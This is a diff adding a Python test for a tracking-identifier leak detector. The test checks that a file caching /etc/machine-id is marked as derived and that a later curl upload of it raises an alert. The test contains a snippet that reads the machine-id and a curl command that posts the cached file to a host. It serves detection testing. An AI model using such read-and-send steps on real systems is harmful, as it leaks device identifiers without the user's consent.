@@ -1,0 +1,48 @@
+# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+"""Files as channels (issue 15.3): a process holding an identifier writes a form of it into a file
+of its own (a cache, SharedPreferences, a log line); the file becomes an identifier file for it,
+so a later, unrelated reader that sends its content is reported. A holder writing other text
+makes no such file."""
+import os
+import shutil
+import subprocess
+import tempfile
+
+from idslib import Agent, POLICY_MACHINE_ID, expect, expect_eq, machine_id
+
+
+def run_to(out, cmd, timeout=20):
+    with open(out, "w") as f:
+        return subprocess.run(cmd, stdout=f, stderr=subprocess.STDOUT, timeout=timeout).returncode
+
+
+def test_value_cached_in_a_file_taints_a_later_reader(host):
+    tmp = tempfile.mkdtemp(prefix="idsentry-cache-")
+    cache, notes = os.path.join(tmp, "prefs.json"), os.path.join(tmp, "notes.txt")
+    try:
+        with Agent(policy_text=POLICY_MACHINE_ID) as agent:
+            # the holder: reads the machine-id, caches it as an SDK would, writes notes too
+            code = ("import json, sys\nv = open('/etc/machine-id').read().strip()\n"
+                    "json.dump({'device_id': v, 'v': 2}, open(sys.argv[1], 'w'))\n"
+                    "open(sys.argv[2], 'w').write('nothing to see here\\n')\n")
+            expect_eq(0, run_to(os.path.join(tmp, "w.out"), ["python3", "-c", code, cache,
+                                                             notes]), "the writer's status")
+            rec = agent.wait_for(lambda r: r["type"] == "derived_file", what="a derived_file")
+            expect_eq(os.path.realpath(cache), rec["path"], "the derived file's path")
+            expect_eq(["machine-id"], rec["identifiers"], "its identifiers")
+            # later, an unrelated process (the value is nowhere else) sends the cache
+            for name in ("notes", "prefs"):
+                path = notes if name == "notes" else cache
+                expect_eq(0, run_to(os.path.join(tmp, name + ".out"), [
+                    "curl", "-s", "-o", "/dev/null", "--max-time", "5", "--data-binary",
+                    "@" + path, "http://%s:8080/%s" % (host.addr, name)]), "curl's status")
+            a = agent.wait_alert(process__comm="curl", confidence="confirmed")
+            expect("/prefs" in a["process"]["cmdline"], "the cache's reader: %r" % a["process"])
+            derived = [r for r in agent.records() if r["type"] == "derived_file"]
+            expect_eq(1, len(derived), "one derived file (the notes hold no value)")
+            expect_eq([], [x for x in agent.alerts() if "/notes" in x["process"]["cmdline"]],
+                      "no alert for the notes' reader")
+        expect_eq("machine-id", a["identifiers"][0]["name"], "identifier")
+        expect(machine_id() in host.quiet_received(), "the host got the value")
+    finally:
+        shutil.rmtree(tmp, ignore_errors=True)
